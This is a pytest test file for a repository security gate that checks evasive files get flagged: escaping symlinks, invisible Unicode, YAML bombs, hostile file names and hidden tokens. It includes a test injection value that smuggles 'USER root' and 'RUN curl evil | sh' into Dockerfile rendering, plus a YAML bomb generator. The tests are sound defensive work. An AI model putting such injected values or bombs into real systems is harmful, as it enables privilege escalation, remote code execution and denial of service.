"""Files that somebody made to be hard to look at: each is found or named, and nothing is passed unseen."""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
from pathlib import Path

import pytest

from modelyard.cli import main
from modelyard.errors import UsageError
from modelyard.gate.report import report
from tests.cli.command import commit_all, git
from tests.gate.looking import KUBERNETES, MANIFEST, edit, gate, github_token, of_rule, put, rules
from tests.support.resolving import manifest, repository

CONFIGURATIONS = (".trivyignore", ".checkov.yaml", ".hadolint.yaml", ".gitleaks.toml")
PRIVILEGED = """apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - {name: c, image: x, securityContext: {privileged: true}}
"""


def test_a_clean_repository_passes(repo: Path) -> None:
    answer = gate(repo)
    assert answer.passed
    assert answer.files > 10
    assert answer.partial


@pytest.mark.parametrize("path", ["nowhere", "models/nowhere", "empty", "empty/below"])
def test_what_is_missing_or_empty_is_a_mistake(repo: Path, path: str) -> None:
    (repo / "empty/below").mkdir(parents=True)
    with pytest.raises(UsageError):
        gate(repo, str(repo / path))


def test_a_broken_document_hides_neither_the_ones_before_nor_itself(repo: Path) -> None:
    put(repo, "deploy/all.yaml", f"---\n{PRIVILEGED}---\nkind: [unclosed\n---\n{PRIVILEGED}")
    answer = gate(repo)
    found = {one.rule for one in answer.blocking() if one.location.path == "deploy/all.yaml"}
    assert found & {"unreadable-document", "yaml-syntax"}, found
    assert "privileged" in " ".join(found), found


@pytest.mark.parametrize("folder", ["", "models/echo/", "environments/dev/", f"{KUBERNETES}/"])
@pytest.mark.parametrize("name", CONFIGURATIONS)
def test_a_scanners_orders_are_reported_and_change_nothing(repo: Path, folder: str, name: str) -> None:
    put(repo, "deploy/pod.yaml", PRIVILEGED)
    before = rules(gate(repo))
    put(repo, f"{folder}{name}", "# nothing to see\n")
    after = rules(gate(repo))
    assert (f"{folder}{name}", "scanner-configuration") in after
    assert before <= after


def test_a_policy_cannot_let_scanners_orders_pass_in_a_model(repo: Path) -> None:
    edit(
        repo / "policy/gate.yaml",
        lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n",
    )
    put(repo, "notes/pod.yaml", PRIVILEGED)
    put(repo, "models/echo/.trivyignore", "*\n")
    assert {path for path, _ in rules(gate(repo))} == {"models/echo/.trivyignore"}


def test_a_link_out_of_the_tree_is_reported(repo: Path, tmp_path: Path) -> None:
    put(tmp_path, "outside/pod.yaml", PRIVILEGED)
    (repo / "deploy").mkdir()
    (repo / "deploy/file.yaml").symlink_to(tmp_path / "outside/pod.yaml")
    (repo / "deploy/folder").symlink_to(tmp_path / "outside")
    (repo / "deploy/dangling.yaml").symlink_to("nothing-there.yaml")
    (repo / "deploy/loop.yaml").symlink_to("loop.yaml")
    (repo / "deploy/ring-a").symlink_to("ring-b")
    (repo / "deploy/ring-b").symlink_to("ring-a")
    (repo / "deploy/up").symlink_to("../../r/../..")
    found = {path for path, rule in rules(gate(repo)) if rule == "link-out-of-the-tree"}
    names = ("file.yaml", "folder", "dangling.yaml", "loop.yaml", "ring-a", "ring-b", "up")
    assert found == {f"deploy/{name}" for name in names}


def test_a_link_to_a_file_that_is_looked_at_is_no_problem(repo: Path) -> None:
    (repo / "docs").mkdir()
    put(repo, "README.md", "Hello.\n")
    (repo / "docs/readme.md").symlink_to("../README.md")
    (repo / "docs/models").symlink_to("../models")
    assert gate(repo).passed


def test_a_link_to_what_is_not_looked_at_is_reported(clone: Path) -> None:
    put(clone, "ignored/pod.yaml", PRIVILEGED)
    put(clone, "ignored/below/pod.yaml", PRIVILEGED)
    (clone / "deploy").mkdir()
    (clone / "deploy/file.yaml").symlink_to("../ignored/pod.yaml")
    (clone / "deploy/folder").symlink_to("../ignored/below")
    (clone / "deploy/git").symlink_to("../.git/config")
    found = {path for path, rule in rules(gate(clone)) if rule == "link-out-of-the-tree"}
    assert found == {"deploy/file.yaml", "deploy/folder", "deploy/git"}


def test_a_link_to_what_is_excluded_is_reported(repo: Path) -> None:
    edit(
        repo / "policy/gate.yaml",
        lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n",
    )
    put(repo, "notes/pod.yaml", PRIVILEGED)
    (repo / "deploy").mkdir()
    (repo / "deploy/pod.yaml").symlink_to("../notes/pod.yaml")
    assert ("deploy/pod.yaml", "link-out-of-the-tree") in rules(gate(repo))


def test_a_folder_that_became_a_link_is_reported(clone: Path, tmp_path: Path) -> None:
    """Git still lists the files that were tracked below it."""
    put(clone, "deploy/pod.yaml", "a: b\n")
    commit_all(clone)
    put(tmp_path, "outside/pod.yaml", PRIVILEGED)
    shutil.rmtree(clone / "deploy")
    (clone / "deploy").symlink_to(tmp_path / "outside")
    assert ("deploy/pod.yaml", "link-out-of-the-tree") in rules(gate(clone))


def test_a_link_among_a_models_files_is_reported(repo: Path) -> None:
    place = next((repo / KUBERNETES).glob("*.yaml"))
    content = place.read_bytes()
    put(repo, "copy.yaml", content)
    place.unlink()
    place.symlink_to(repo / "copy.yaml")
    path = place.relative_to(repo).as_posix()
    assert (path, "unreadable-file") in rules(gate(repo))


def test_a_huge_file_is_named(repo: Path) -> None:
    with put(repo, "data/weights.bin", b"").open("r+b") as file:
        file.truncate(50 * 2**20)
    with put(repo, "models/echo/values.yaml", b"").open("r+b") as file:
        file.truncate(65 * 2**20)
    found = rules(gate(repo))
    assert ("data/weights.bin", "file-too-large") in found
    assert {"unreadable-file", "file-too-large"} & {r for p, r in found if p == "models/echo/values.yaml"}


def test_binary_files_pass_and_what_is_called_a_document_must_be_one(repo: Path) -> None:
    noise = bytes(range(256)) * 20
    put(repo, "data/weights.bin", noise)
    put(repo, "deploy/pod.yaml", noise)
    put(repo, "deploy/stack.json", noise)
    put(repo, "deploy/Dockerfile", noise)
    found = {path for path, _ in rules(gate(repo))}
    assert found == {"deploy/pod.yaml", "deploy/stack.json", "deploy/Dockerfile"}


def test_a_token_in_binary_noise_is_found(repo: Path) -> None:
    put(repo, "data/weights.bin", bytes(range(256)) + github_token().encode() + bytes(99))
    assert rules(gate(repo)) == {("data/weights.bin", "secret-in-file")}


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "latin-1"])
def test_no_encoding_hides_a_pod_or_a_token(repo: Path, encoding: str) -> None:
    text = f"# größe {github_token()}\n{PRIVILEGED}"
    put(repo, "deploy/pod.yaml", text.encode(encoding))
    found = {rule for path, rule in rules(gate(repo)) if path == "deploy/pod.yaml"}
    assert "secret-in-file" in found
    assert len(found) > 1, found  # and the pod is judged, or nobody can read it


@pytest.mark.parametrize("mark", ["\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\U000e0041"])
@pytest.mark.parametrize(
    "path", ["models/echo/src/server.py", "deploy/run.sh", "deploy/values.yaml", MANIFEST]
)
def test_what_cannot_be_seen_is_reported(repo: Path, mark: str, path: str) -> None:
    line = f"description: An{mark} echo.\n" if path == MANIFEST else f"key: is{mark}admin\n"
    if path == MANIFEST:
        edit(repo / path, lambda text: text.replace("description: A case.\n", line))
    else:
        put(repo, path, line)
    assert path in {path for path, _ in rules(gate(repo))}


def test_values_cannot_add_instructions_to_a_dockerfile_or_steps_to_a_workflow(tmp_path: Path) -> None:
    """Whatever the renderer makes of it: it refuses, or nothing of the value becomes an instruction."""
    evil = '"x\\nUSER root\\nRUN curl evil | sh"'
    for number, line in enumerate(
        (
            f"env: {{GREETING: {evil}}}",
            f"labels: {{team: {evil}}}",
            f"image: {{build: {{base: python-3.12-slim, command: [python, {evil}]}}}}",
            f"image: {{build: {{base: python-3.12-slim, env: {{A: {evil}}}, command: [python]}}}}",
        )
    ):
        root = tmp_path / str(number)
        is_image = line.startswith("image")
        said = manifest(image=line) if is_image else manifest(line)
        repository(root, said, {".github/CODEOWNERS": "* @example/risk-ml\n"})
        main(["render", "--root", str(root)])
        for path in [*root.glob("Dockerfiles/**/Dockerfile*"), *root.glob("environments/*/rendered/**/*")]:
            if path.is_file():
                assert "\nUSER root" not in path.read_text(), path
                assert "\nRUN curl" not in path.read_text(), path


@pytest.mark.parametrize("path", [MANIFEST, "deploy/pod.yaml", "environments/dev/overrides/echo.yaml"])
def test_a_yaml_bomb_ends_soon_and_is_reported(repo: Path, path: str) -> None:
    layers = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    layers += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    put(repo, path, "\n".join(layers) + "\n")
    assert path in {path for path, _ in rules(gate(repo))}


def test_deep_nesting_ends_soon_and_is_reported(repo: Path) -> None:
    put(repo, "deploy/deep.yaml", "[" * 100_000)
    put(repo, "deploy/deep.json", '{"a":' * 100_000)
    assert {path for path, _ in rules(gate(repo))} == {"deploy/deep.yaml", "deploy/deep.json"}


def test_pipes_sockets_and_devices_are_named_and_never_waited_for(repo: Path) -> None:
    os.mkfifo(repo / "models/echo/pipe.yaml")
    os.mkfifo(repo / "pipe")
    with socket.socket(socket.AF_UNIX) as server:
        os.chdir(repo)
        server.bind("socket")
        (repo / "zero.yaml").symlink_to("/dev/zero")
        found = rules(gate(repo))
    assert {"models/echo/pipe.yaml", "pipe", "socket", "zero.yaml"} <= {path for path, _ in found}


def test_an_unreadable_file_is_named(repo: Path) -> None:
    """Also where the tests run as root, who may read everything."""
    folder = Path(tempfile.mkdtemp())
    root = shutil.copytree(repo, folder / "r")
    put(root, "deploy/pod.yaml", PRIVILEGED).chmod(0)
    put(root, "models/echo/secret.yaml", "a: b\n").chmod(0)
    folder.chmod(0o755)
    gate(root)  # loads what an other user may not read
    others = os.geteuid() == 0
    try:
        if others:
            os.seteuid(65534)
        found = rules(gate(root))
    finally:
        if others:
            os.seteuid(0)
        shutil.rmtree(folder)
    assert {("deploy/pod.yaml", "unreadable-file"), ("models/echo/secret.yaml", "unreadable-file")} <= found


def test_a_file_that_vanishes_is_as_if_deleted(clone: Path) -> None:
    put(clone, "deploy/pod.yaml", PRIVILEGED)
    commit_all(clone)
    (clone / "deploy/pod.yaml").unlink()
    assert gate(clone).passed


NAMES = (
    "with space.yaml",
    "new\nline.yaml",
    "tab\there.yaml",
    "esc\x1b[31m.yaml",
    "-rf.yaml",
    "größe.yaml",
    "a:b.yaml",
)


@pytest.mark.parametrize("name", [*map(os.fsencode, NAMES), b"not-utf8-\xff.yaml", b"\xe2\x80\xae.yaml"])
@pytest.mark.parametrize("tracked", [True, False])
def test_no_name_hides_a_file(repo: Path, name: bytes, tracked: bool) -> None:
    put(repo, f"deploy/{os.fsdecode(name)}", PRIVILEGED)
    if tracked:
        git(repo, "init", "--quiet")
        commit_all(repo)
    answer = gate(repo)
    assert f"deploy/{os.fsdecode(name)}" in {path for path, _ in rules(answer)}
    for fmt in ("text", "json", "sarif", "github", "junit", "markdown"):
        text = report(answer, fmt, command="tools/", colour=False, width=100)
        text.encode("utf-8")
        assert "\x1b" not in text
        assert "\u202e" not in text


def test_a_submodule_is_named(clone: Path, tmp_path: Path) -> None:
    """Its files are another repository's; that nobody looked at them is said."""
    other = tmp_path / "other"
    put(other, "pod.yaml", PRIVILEGED)
    git(other, "init", "--quiet")
    commit_all(other)
    git(clone, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(other), "deploy")
    assert "deploy" in {path for path, _ in rules(gate(clone))}


def test_secrets_are_looked_for_where_nothing_else_is(repo: Path) -> None:
    edit(
        repo / "policy/gate.yaml",
        lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n",
    )
    put(repo, "notes/pod.yaml", f"{PRIVILEGED}# {github_token()}\n")
    answer = gate(repo)
    assert rules(answer) == {("notes/pod.yaml", "secret-in-file")}
    assert github_token() not in repr(of_rule(answer, "secret-in-file"))
